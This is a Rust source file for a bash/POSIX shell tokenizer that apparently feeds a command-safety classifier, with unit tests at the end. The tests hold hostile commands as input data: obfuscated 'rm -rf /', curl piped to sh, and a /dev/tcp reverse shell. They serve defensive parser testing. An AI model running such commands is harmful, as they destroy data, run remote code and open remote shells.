//! The shell tokenizer: POSIX/bash quoting and operators, turned into pipelines of simple commands.
//!
//! It understands what changes *which program runs with which arguments*: single and double quotes, `$'…'`
//! (decoded), backslash escapes and line continuations, `;` `&&` `||` `&` `|` `|&` and newlines, redirections
//! with file descriptors and here-documents/here-strings, `$(…)`, backticks and `<(…)`/`>(…)` (kept as source
//! for the caller to analyze one level deeper), `${…}` and `$((…))` (kept literally), and comments. Grouping
//! parentheses and braces are transparent. It does not expand variables or globs; the classifier does the
//! little expansion that matters. Work is linear in the input and bounded by [`MAX_TOKENS`]; anything cut
//! short sets `incomplete` so the caller can tag the call `unparsed`.

/// Tokens beyond this are not lexed (the call is then `unparsed`).
pub const MAX_TOKENS: usize = 4096;

/// A nested piece of shell code inside a word.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sub {
    /// `$(…)` / backticks (`Command`), `<(…)` (`ProcIn`) or `>(…)` (`ProcOut`).
    pub kind: SubKind,
    /// The inner source text.
    pub src: String,
}

/// Kinds of nested code.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SubKind {
    Command,
    ProcIn,
    ProcOut,
}

/// One shell word after quote removal.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Word {
    /// The text with quotes removed and escapes applied (substitutions kept as their source).
    pub text: String,
    /// Some part was quoted or escaped.
    pub quoted: bool,
    /// Some part used `$'…'` with numeric escapes (`\x72`, `\162`).
    pub encoded: bool,
    /// Nested code found in the word.
    pub subs: Vec<Sub>,
}

/// A redirection: `[fd]op target`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    /// The operator: `>`, `>>`, `<`, `<>`, `>&`, `<&`, `&>`, `&>>`, `>|`, `<<`, `<<<`.
    pub op: &'static str,
    /// The explicit file descriptor, if written.
    pub fd: Option<u32>,
    /// The target word, or for `<<` the here-document body.
    pub target: Word,
}

impl Redirect {
    /// Whether this redirect writes to its target.
    pub fn writes(&self) -> bool {
        matches!(self.op, ">" | ">>" | ">|" | "&>" | "&>>" | "<>") || (self.op == ">&" && !is_fd(&self.target.text))
    }
    /// Whether this redirect feeds stdin (file, here-doc or here-string).
    pub fn feeds_stdin(&self) -> bool {
        matches!(self.op, "<" | "<<" | "<<<" | "<>") && self.fd.unwrap_or(0) == 0
    }
}

fn is_fd(s: &str) -> bool {
    s == "-" || (!s.is_empty() && s.bytes().all(|b| b.is_ascii_digit()))
}

/// Separators between commands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Op {
    /// `;`, newline, `;;`.
    Seq,
    And,
    Or,
    /// `|` or `|&`.
    Pipe,
    /// `&` (background).
    Background,
}

/// A lexical token.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Token {
    Word(Word),
    Redirect(Redirect),
    Op(Op),
}

/// The tokens of one script, and whether lexing stopped early (unterminated quote, too many tokens).
#[derive(Debug, Clone, Default)]
pub struct Lexed {
    pub tokens: Vec<Token>,
    pub incomplete: bool,
}

struct Lexer<'a> {
    b: &'a [u8],
    i: usize,
    out: Lexed,
    pending: Vec<(usize, String, bool)>,
}

/// Tokenizes a script.
pub fn lex(src: &str) -> Lexed {
    let mut lx = Lexer { b: src.as_bytes(), i: 0, out: Lexed::default(), pending: Vec::new() };
    lx.run();
    lx.out
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

impl<'a> Lexer<'a> {
    fn peek(&self, k: usize) -> u8 {
        self.b.get(self.i + k).copied().unwrap_or(0)
    }

    fn push(&mut self, t: Token) {
        if self.out.tokens.len() >= MAX_TOKENS {
            self.out.incomplete = true;
            self.i = self.b.len();
            return;
        }
        self.out.tokens.push(t);
    }

    fn run(&mut self) {
        while self.i < self.b.len() {
            let c = self.peek(0);
            match c {
                b' ' | b'\t' | b'\r' => self.i += 1,
                b'\\' if self.peek(1) == b'\n' => self.i += 2,
                b'#' => {
                    while self.i < self.b.len() && self.peek(0) != b'\n' {
                        self.i += 1;
                    }
                }
                b'\n' => {
                    self.i += 1;
                    self.push(Token::Op(Op::Seq));
                    self.read_heredocs();
                }
                b';' => {
                    self.i += if matches!(self.peek(1), b';' | b'&') { 2 } else { 1 };
                    self.push(Token::Op(Op::Seq));
                }
                b'&' if self.peek(1) == b'&' => {
                    self.i += 2;
                    self.push(Token::Op(Op::And));
                }
                b'&' if self.peek(1) == b'>' => {
                    let op = if self.peek(2) == b'>' { "&>>" } else { "&>" };
                    self.i += op.len();
                    self.redirect(op, None);
                }
                b'&' => {
                    self.i += 1;
                    self.push(Token::Op(Op::Background));
                }
                b'|' => {
                    let op = if self.peek(1) == b'|' { Op::Or } else { Op::Pipe };
                    self.i += if matches!(self.peek(1), b'|' | b'&') { 2 } else { 1 };
                    self.push(Token::Op(op));
                }
                b'(' | b')' => self.i += 1,
                b'<' | b'>' if self.peek(1) == b'(' => self.word(),
                b'<' | b'>' => self.redirect_op(None),
                b'0'..=b'9' if self.fd_redirect() => {}
                _ => self.word(),
            }
        }
        if !self.pending.is_empty() {
            self.read_heredocs();
        }
    }

    /// `2>file`, `1>&2`: digits immediately followed by `<` or `>`.
    fn fd_redirect(&mut self) -> bool {
        let mut j = self.i;
        while j < self.b.len() && self.b[j].is_ascii_digit() {
            j += 1;
        }
        if j - self.i > 4 || !matches!(self.b.get(j), Some(b'<' | b'>')) {
            return false;
        }
        let fd = std::str::from_utf8(&self.b[self.i..j]).ok().and_then(|s| s.parse().ok());
        self.i = j;
        self.redirect_op(fd);
        true
    }

    fn redirect_op(&mut self, fd: Option<u32>) {
        let rest = &self.b[self.i..];
        let op = ["<<<", "<<-", "<<", "<>", "<&", ">>", ">|", ">&", "<", ">"]
            .into_iter()
            .find(|op| rest.starts_with(op.as_bytes()))
            .unwrap_or(">");
        self.i += op.len();
        if op == "<<" || op == "<<-" {
            while matches!(self.peek(0), b' ' | b'\t') {
                self.i += 1;
            }
            let delim = self.read_word();
            let idx = self.out.tokens.len();
            self.push(Token::Redirect(Redirect { op: "<<", fd, target: Word::default() }));
            self.pending.push((idx, delim.text, op == "<<-"));
            return;
        }
        self.redirect(op, fd);
    }

    fn redirect(&mut self, op: &'static str, fd: Option<u32>) {
        while matches!(self.peek(0), b' ' | b'\t') {
            self.i += 1;
        }
        let target = self.read_word();
        self.push(Token::Redirect(Redirect { op, fd, target }));
    }

    fn read_heredocs(&mut self) {
        let pending = std::mem::take(&mut self.pending);
        for (idx, delim, strip) in pending {
            let mut body = String::new();
            let mut closed = false;
            while self.i < self.b.len() {
                let end = self.b[self.i..].iter().position(|&c| c == b'\n').map_or(self.b.len(), |p| self.i + p);
                let line = text(&self.b[self.i..end]);
                self.i = (end + 1).min(self.b.len());
                let cmp = if strip { line.trim_start_matches('\t') } else { line.as_str() };
                if cmp.trim_end_matches('\r') == delim {
                    closed = true;
                    break;
                }
                body.push_str(&line);
                body.push('\n');
            }
            if !closed {
                self.out.incomplete |= self.i < self.b.len();
            }
            if let Some(Token::Redirect(r)) = self.out.tokens.get_mut(idx) {
                r.target = Word { text: body, quoted: true, ..Word::default() };
            }
        }
    }

    fn word(&mut self) {
        let w = self.read_word();
        if !w.text.is_empty() || w.quoted || !w.subs.is_empty() {
            self.push(Token::Word(w));
        } else {
            self.i += 1;
        }
    }

    /// Index just past the `)` matching the `(` at `open`, skipping quotes; `None` if unbalanced.
    fn close_paren(&self, open: usize) -> Option<usize> {
        let mut depth = 0usize;
        let mut j = open;
        while j < self.b.len() {
            match self.b[j] {
                b'\\' => j += 1,
                b'\'' => j += self.b[j + 1..].iter().position(|&c| c == b'\'')? + 1,
                b'"' => {
                    j += 1;
                    while j < self.b.len() && self.b[j] != b'"' {
                        j += if self.b[j] == b'\\' { 2 } else { 1 };
                    }
                }
                b'(' => depth += 1,
                b')' => {
                    depth -= 1;
                    if depth == 0 {
                        return Some(j + 1);
                    }
                }
                _ => {}
            }
            j += 1;
        }
        None
    }

    /// Reads `$(`…`)` / `<(`…`)` starting at `self.i` pointing at `(`; returns the inner source.
    fn paren_sub(&mut self) -> String {
        match self.close_paren(self.i) {
            Some(end) => {
                let s = text(&self.b[self.i + 1..end - 1]);
                self.i = end;
                s
            }
            None => {
                self.out.incomplete = true;
                let s = text(&self.b[(self.i + 1).min(self.b.len())..]);
                self.i = self.b.len();
                s
            }
        }
    }

    fn read_word(&mut self) -> Word {
        let mut w = Word::default();
        let mut buf: Vec<u8> = Vec::new();
        if matches!(self.peek(0), b'<' | b'>') && self.peek(1) == b'(' {
            let kind = if self.peek(0) == b'<' { SubKind::ProcIn } else { SubKind::ProcOut };
            let start = self.i;
            self.i += 1;
            let src = self.paren_sub();
            buf.extend_from_slice(&self.b[start..self.i]);
            w.subs.push(Sub { kind, src });
        }
        while self.i < self.b.len() {
            let c = self.peek(0);
            match c {
                b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')' => break,
                b'\\' => {
                    w.quoted = true;
                    if self.peek(1) != b'\n' && self.i + 1 < self.b.len() {
                        buf.push(self.peek(1));
                    }
                    self.i += 2;
                }
                b'\'' => {
                    w.quoted = true;
                    self.i += 1;
                    match self.b[self.i..].iter().position(|&c| c == b'\'') {
                        Some(p) => {
                            buf.extend_from_slice(&self.b[self.i..self.i + p]);
                            self.i += p + 1;
                        }
                        None => {
                            self.out.incomplete = true;
                            buf.extend_from_slice(&self.b[self.i..]);
                            self.i = self.b.len();
                        }
                    }
                }
                b'"' => {
                    w.quoted = true;
                    self.i += 1;
                    self.double_quoted(&mut w, &mut buf);
                }
                b'$' if self.peek(1) == b'\'' => {
                    w.quoted = true;
                    self.i += 2;
                    self.ansi_c(&mut w, &mut buf);
                }
                b'$' if self.peek(1) == b'(' => {
                    let start = self.i;
                    self.i += 1;
                    let arithmetic = self.peek(1) == b'(';
                    let src = self.paren_sub();
                    buf.extend_from_slice(&self.b[start..self.i]);
                    if !arithmetic {
                        w.subs.push(Sub { kind: SubKind::Command, src });
                    }
                }
                b'$' if self.peek(1) == b'{' => {
                    let start = self.i;
                    let end = self.b[self.i..].iter().position(|&c| c == b'}').map_or(self.b.len(), |p| self.i + p + 1);
                    buf.extend_from_slice(&self.b[start..end]);
                    self.i = end;
                }
                b'`' => self.backtick(&mut w, &mut buf),
                _ => {
                    buf.push(c);
                    self.i += 1;
                }
            }
        }
        w.text = text(&buf);
        w
    }

    fn backtick(&mut self, w: &mut Word, buf: &mut Vec<u8>) {
        self.i += 1;
        let mut inner = Vec::new();
        while self.i < self.b.len() && self.peek(0) != b'`' {
            if self.peek(0) == b'\\' && self.i + 1 < self.b.len() {
                self.i += 1;
            }
            inner.push(self.peek(0));
            self.i += 1;
        }
        if self.i >= self.b.len() {
            self.out.incomplete = true;
        }
        self.i += 1;
        let src = text(&inner);
        buf.extend_from_slice(format!("`{src}`").as_bytes());
        w.subs.push(Sub { kind: SubKind::Command, src });
    }

    fn double_quoted(&mut self, w: &mut Word, buf: &mut Vec<u8>) {
        while self.i < self.b.len() {
            let c = self.peek(0);
            match c {
                b'"' => {
                    self.i += 1;
                    return;
                }
                b'\\' if matches!(self.peek(1), b'"' | b'\\' | b'$' | b'`') => {
                    buf.push(self.peek(1));
                    self.i += 2;
                }
                b'\\' if self.peek(1) == b'\n' => self.i += 2,
                b'$' if self.peek(1) == b'(' => {
                    let start = self.i;
                    self.i += 1;
                    let arithmetic = self.peek(1) == b'(';
                    let src = self.paren_sub();
                    buf.extend_from_slice(&self.b[start..self.i]);
                    if !arithmetic {
                        w.subs.push(Sub { kind: SubKind::Command, src });
                    }
                }
                b'`' => self.backtick(w, buf),
                _ => {
                    buf.push(c);
                    self.i += 1;
                }
            }
        }
        self.out.incomplete = true;
    }

    /// `$'…'`: C escapes decoded, numeric ones flagged as encoding.
    fn ansi_c(&mut self, w: &mut Word, buf: &mut Vec<u8>) {
        while self.i < self.b.len() {
            let c = self.peek(0);
            self.i += 1;
            match c {
                b'\'' => return,
                b'\\' => {
                    let e = self.peek(0);
                    self.i += 1;
                    match e {
                        b'n' => buf.push(b'\n'),
                        b't' => buf.push(b'\t'),
                        b'r' => buf.push(b'\r'),
                        b'a' => buf.push(7),
                        b'e' | b'E' => buf.push(27),
                        b'x' => {
                            let v = self.radix_digits(16, 2);
                            buf.push(v);
                            w.encoded = true;
                        }
                        b'0'..=b'7' => {
                            self.i -= 1;
                            let v = self.radix_digits(8, 3);
                            buf.push(v);
                            w.encoded = true;
                        }
                        other => buf.push(other),
                    }
                }
                other => buf.push(other),
            }
        }
        self.out.incomplete = true;
    }

    fn radix_digits(&mut self, radix: u32, max: usize) -> u8 {
        let mut v: u32 = 0;
        let mut n = 0;
        while n < max {
            match (self.peek(0) as char).to_digit(radix) {
                Some(d) => {
                    v = v * radix + d;
                    self.i += 1;
                    n += 1;
                }
                None => break,
            }
        }
        (v & 0xff) as u8
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(src: &str) -> Vec<String> {
        lex(src).tokens.into_iter().filter_map(|t| if let Token::Word(w) = t { Some(w.text) } else { None }).collect()
    }

    #[test]
    fn quotes_and_escapes() {
        assert_eq!(words(r#"r''m -"r"f '/' \/x"#), ["rm", "-rf", "/", "/x"]);
        assert_eq!(words("$'\\x72\\x6d' -rf /"), ["rm", "-rf", "/"]);
        assert_eq!(words("echo \"a b\"c"), ["echo", "a bc"]);
    }

    #[test]
    fn operators_and_subs() {
        let l = lex("curl -s http://x | sh; a && b || c & d");
        let ops: Vec<Op> = l.tokens.iter().filter_map(|t| if let Token::Op(o) = t { Some(*o) } else { None }).collect();
        assert_eq!(ops, [Op::Pipe, Op::Seq, Op::And, Op::Or, Op::Background]);
        let l = lex("bash <(curl -s http://x) \"$(echo hi)\" `id`");
        let subs: Vec<Sub> =
            l.tokens.iter().flat_map(|t| if let Token::Word(w) = t { w.subs.clone() } else { vec![] }).collect();
        assert_eq!(subs.len(), 3);
        assert_eq!(subs[0], Sub { kind: SubKind::ProcIn, src: "curl -s http://x".into() });
    }

    #[test]
    fn redirects_and_heredocs() {
        let l = lex("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
        let r: Vec<&Redirect> =
            l.tokens.iter().filter_map(|t| if let Token::Redirect(r) = t { Some(r) } else { None }).collect();
        assert_eq!(r[0].target.text, "/dev/tcp/10.0.0.1/4444");
        assert_eq!(r[1].fd, Some(0));
        let l = lex("sh <<EOF\nrm -rf /\nEOF\necho done");
        assert!(l.tokens.iter().any(|t| matches!(t, Token::Redirect(r) if r.target.text == "rm -rf /\n")));
        assert!(!l.incomplete);
    }

    #[test]
    fn hostile_input_is_bounded() {
        assert!(lex("echo 'unterminated").incomplete);
        assert!(lex(&"a ".repeat(10_000)).incomplete);
        let _ = lex("$(((((((");
        let _ = lex("\\");
        let _ = lex("$'\\x");
    }
}
